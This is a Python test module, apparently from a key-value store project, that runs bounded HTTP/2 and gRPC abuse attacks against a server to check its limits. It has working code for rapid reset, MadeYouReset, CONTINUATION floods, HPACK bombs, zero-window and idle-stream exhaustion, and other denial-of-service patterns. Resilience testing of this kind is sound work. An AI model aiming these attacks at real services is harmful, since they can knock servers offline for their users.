"""HTTP/2 as no client should speak it, to a real member over real sockets. Each attack is bounded and ends by itself.

Names are those under which the attacks are known; kvstore/wire/limits.py has the bound that each of them meets.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import logging
import os
import sys
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import asdict, dataclass

from hpack import Encoder
from hpack.huffman import HuffmanEncoder
from hpack.huffman_constants import REQUEST_CODES, REQUEST_CODES_LENGTH

from kvstore.pb.etcdserverpb_pb2 import PutRequest, RangeRequest
from kvstore.wire import frames as h2
from kvstore.wire.frames import frame
from kvstore.wire.headers import literal
from kvstore.wire.messages import PREFIX

SECONDS = float(os.environ.get("ABUSE_SECONDS", "1"))
RANGE, PUT, WATCH = "/etcdserverpb.KV/Range", "/etcdserverpb.KV/Put", "/etcdserverpb.Watch/Watch"
FIELDS = [(":method", "POST"), (":scheme", "http"), (":authority", "a"), ("content-type", "application/grpc")]
LARGE = RangeRequest(key=b"large/", range_end=b"large0")
"""What the test has put: a few thousand keys, about a MiB."""


@dataclass
class Report:
    """What was sent, and how the member ended it: the reason of its GOAWAY, or "" where it goes on serving."""

    sent_bytes: int = 0
    ended: str = ""


class Attacker:
    """One connection. What comes back is read and thrown away, but for a GOAWAY."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, report: Report) -> None:
        self._writer = writer
        self._report = report
        self._encoder = Encoder()
        self._encoder.header_table_size = 0
        self._reading = asyncio.ensure_future(self._read(reader))
        self._next = 1

    @classmethod
    async def connect(cls, endpoint: str, report: Report, window: int | None = None) -> Attacker:
        host, port = endpoint.rsplit(":", 1)
        attacker = cls(*await asyncio.open_connection(host, int(port)), report)
        settings = b"" if window is None else h2.SETTING.pack(h2.INITIAL_WINDOW_SIZE, window)
        attacker.write(h2.PREFACE + frame(h2.SETTINGS, 0, 0, settings))
        return attacker

    @property
    def ended(self) -> bool:
        return self._reading.done()

    def write(self, data: bytes) -> None:
        self._report.sent_bytes += len(data)
        self._writer.write(data)

    async def go_on(self) -> bool:
        """False once the member has ended the connection."""
        with contextlib.suppress(ConnectionError, TimeoutError):
            async with asyncio.timeout(SECONDS):
                await self._writer.drain()
        await asyncio.sleep(0)
        return not self.ended

    def head(self, path: str) -> bytes:
        return self._encoder.encode([*FIELDS, (":path", path)])

    def open(self, path: str, message: bytes | None = None, *, end: bool = True) -> int:
        stream, self._next = self._next, self._next + 2
        self.write(frame(h2.HEADERS, h2.END_HEADERS, stream, self.head(path)))
        if message is not None:
            data = PREFIX.pack(0, len(message)) + message
            self.write(frame(h2.DATA, h2.END_STREAM if end else 0, stream, data))
        return stream

    async def _read(self, reader: asyncio.StreamReader) -> None:
        with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError):
            while True:
                high, low, kind, _, _ = h2.FRAME.unpack(await reader.readexactly(h2.FRAME_BYTES))
                payload = await reader.readexactly(high << 8 | low)
                if kind == h2.GOAWAY:
                    self._report.ended = payload[8:].decode(errors="replace")

    async def close(self) -> None:
        self._reading.cancel()
        self._writer.close()
        with contextlib.suppress(ConnectionError, TimeoutError):
            async with asyncio.timeout(1):
                await self._writer.wait_closed()


Attack = Callable[[str], Awaitable[Report]]
Step = Callable[[Attacker], None]


@contextlib.asynccontextmanager
async def attackers(
    endpoint: str, report: Report, count: int = 1, window: int | None = None
) -> AsyncIterator[list[Attacker]]:
    found = [await Attacker.connect(endpoint, report, window) for _ in range(count)]
    try:
        yield found
    finally:
        await asyncio.gather(*(each.close() for each in found))


def flood(step: Step, count: int = 100) -> Attack:
    """The same step, as fast as it goes: on a new connection where the member ends one, for SECONDS."""

    async def attack(endpoint: str) -> Report:
        report, until = Report(), time.monotonic() + SECONDS
        while time.monotonic() < until:
            async with attackers(endpoint, report) as (attacker,):
                while time.monotonic() < until and await attacker.go_on():
                    for _ in range(count):
                        step(attacker)
        return report

    return attack


def rapid_reset(attacker: Attacker) -> None:
    stream = attacker.open(RANGE, LARGE.SerializeToString())
    attacker.write(frame(h2.RST_STREAM, 0, stream, h2.U32.pack(h2.CANCEL)))


def made_you_reset(attacker: Attacker) -> None:
    """The member is brought to reset a call that it is working on: a window that overflows (CVE-2025-8671)."""
    stream = attacker.open(RANGE, LARGE.SerializeToString())
    attacker.write(frame(h2.WINDOW_UPDATE, 0, stream, h2.U32.pack(h2.WINDOW_MAX)))


def settings(attacker: Attacker) -> None:
    attacker.write(frame(h2.SETTINGS, 0, 0, h2.SETTING.pack(h2.INITIAL_WINDOW_SIZE, 1)))


def ping(attacker: Attacker) -> None:
    attacker.write(frame(h2.PING, 0, 0, b"12345678"))


def continuation(attacker: Attacker) -> None:
    """A header block without an end."""
    stream, attacker._next = attacker._next, attacker._next + 2
    attacker.write(frame(h2.HEADERS, 0, stream, literal("a", "b" * 100)))
    for _ in range(20):
        attacker.write(frame(h2.CONTINUATION, 0, stream, literal("a", "b" * 120) * 100))


def bomb(attacker: Attacker) -> None:
    """A large field put into the table and then named thousands of times: kilobytes that mean megabytes."""
    stream, attacker._next = attacker._next, attacker._next + 2
    insert = b"\x40\x01x\x7f\xe1\x1e" + b"v" * 4000  # x: 4,000 bytes, kept
    attacker.write(frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, insert + b"\xbe" * 12_000))


_ENCODED = HuffmanEncoder(REQUEST_CODES, REQUEST_CODES_LENGTH).encode(b"\x01" * 20_000)


def huffman(attacker: Attacker) -> None:
    """A header that costs as much to decode as can be: the rarest letters, Huffman-coded, never the same twice."""
    stream, attacker._next = attacker._next, attacker._next + 2
    size, rest = len(_ENCODED) - 127, bytearray(b"\xff")
    while size >= 128:
        rest.append(size & 127 | 128)
        size >>= 7
    rest.append(size)
    block = attacker.head(RANGE) + literal("n", str(stream)) + b"\x00\x01x" + bytes(rest) + _ENCODED
    at = h2.MAX_FRAME_BYTES
    attacker.write(frame(h2.HEADERS, 0, stream, block[:at]))
    while len(block) - at > h2.MAX_FRAME_BYTES:
        attacker.write(frame(h2.CONTINUATION, 0, stream, block[at : at + h2.MAX_FRAME_BYTES]))
        at += h2.MAX_FRAME_BYTES
    attacker.write(frame(h2.CONTINUATION, h2.END_HEADERS, stream, block[at:]))


async def zero_window(endpoint: str) -> Report:
    """Asks for a MiB two thousand times and takes nothing."""
    report = Report()
    async with attackers(endpoint, report, window=0) as (attacker,):
        for _ in range(2_000):
            attacker.open(RANGE, LARGE.SerializeToString())
        await attacker.go_on()
        await asyncio.sleep(SECONDS)
    return report


async def unread_socket(endpoint: str) -> Report:
    """Opens every window, asks for a MiB two thousand times and does not read its socket."""
    report = Report()
    host, port = endpoint.rsplit(":", 1)
    reader, writer = await asyncio.open_connection(host, int(port), limit=1)
    encoder = Encoder()
    data = h2.PREFACE + frame(h2.SETTINGS, 0, 0, h2.SETTING.pack(h2.INITIAL_WINDOW_SIZE, h2.WINDOW_MAX))
    data += frame(h2.WINDOW_UPDATE, 0, 0, h2.U32.pack(h2.WINDOW_MAX - h2.DEFAULT_WINDOW))
    message = LARGE.SerializeToString()
    for number in range(1, 4_001, 2):
        head = encoder.encode([*FIELDS, (":path", RANGE)])
        data += frame(h2.HEADERS, h2.END_HEADERS, number, head)
        data += frame(h2.DATA, h2.END_STREAM, number, PREFIX.pack(0, len(message)) + message)
    writer.write(data)
    report.sent_bytes = len(data)
    await asyncio.sleep(SECONDS)
    writer.close()
    del reader
    return report


async def idle_streams(endpoint: str) -> Report:
    """Ten thousand calls on one connection that never say anything."""
    report = Report()
    async with attackers(endpoint, report) as (attacker,):
        for number in range(10_000):
            attacker.open(WATCH)
            if number % 500 == 0 and not await attacker.go_on():
                break
        await asyncio.sleep(SECONDS)
    return report


async def half_open(endpoint: str) -> Report:
    """Connections that say nothing, or only the first half of a preface."""
    report = Report()
    host, port = endpoint.rsplit(":", 1)
    writers = []
    for number in range(500):
        _, writer = await asyncio.open_connection(host, int(port))
        writer.write(h2.PREFACE[: number % 20])
        report.sent_bytes += number % 20
        writers.append(writer)
    await asyncio.sleep(SECONDS)
    for writer in writers:
        writer.close()
    return report


async def endless_requests(endpoint: str) -> Report:
    """Two hundred puts of a mebibyte whose last byte never comes."""
    report = Report()
    async with attackers(endpoint, report) as (attacker,):
        request = PutRequest(key=b"endless", value=b"v" * (1 << 20)).SerializeToString()
        data = PREFIX.pack(0, len(request)) + request[:-1]
        for _ in range(200):
            stream = attacker.open(PUT)
            for at in range(0, len(data), h2.MAX_FRAME_BYTES):
                attacker.write(frame(h2.DATA, 0, stream, data[at : at + h2.MAX_FRAME_BYTES]))
            if not await attacker.go_on():
                break
        await asyncio.sleep(SECONDS / 2)
    return report


async def busy(endpoint: str) -> Report:
    """No attack: it takes as much of a core as one does, and leaves the member alone."""
    until = time.monotonic() + SECONDS
    while time.monotonic() < until:
        _ENCODED.count(b"x")
    return Report(ended=f"{endpoint} was left alone")


BUSY = "a busy process, no attack"
ATTACKS: dict[str, Attack] = {
    "rapid reset": flood(rapid_reset),
    "MadeYouReset": flood(made_you_reset),
    "SETTINGS flood": flood(settings, 1000),
    "PING flood": flood(ping, 1000),
    "CONTINUATION flood": flood(continuation, 1),
    "HPACK bomb": flood(bomb, 10),
    "Huffman-coded headers": flood(huffman, 1),
    "zero window": zero_window,
    "socket that is not read": unread_socket,
    "10,000 idle streams": idle_streams,
    "half-open connections": half_open,
    "requests without an end": endless_requests,
}


async def carried_out(name: str, endpoint: str) -> Report:
    """By a process of its own: an attacker that is busy must not slow down whoever watches."""
    command = [sys.executable, "-m", "tests.abuse.attacks", name, endpoint]
    process = await asyncio.create_subprocess_exec(*command, stdout=asyncio.subprocess.PIPE)
    out, _ = await process.communicate()
    if process.returncode:
        raise RuntimeError(f"the attack {name!r} failed")
    return Report(**json.loads(out))


def main() -> None:
    name, endpoint = sys.argv[1:]
    logging.getLogger("asyncio").setLevel(
        logging.ERROR
    )  # writing on to a connection that was ended is the point
    print(json.dumps(asdict(asyncio.run(_attack(name, endpoint)))))


async def _attack(name: str, endpoint: str) -> Report:
    return await (busy if name == BUSY else ATTACKS[name])(endpoint)


if __name__ == "__main__":
    main()
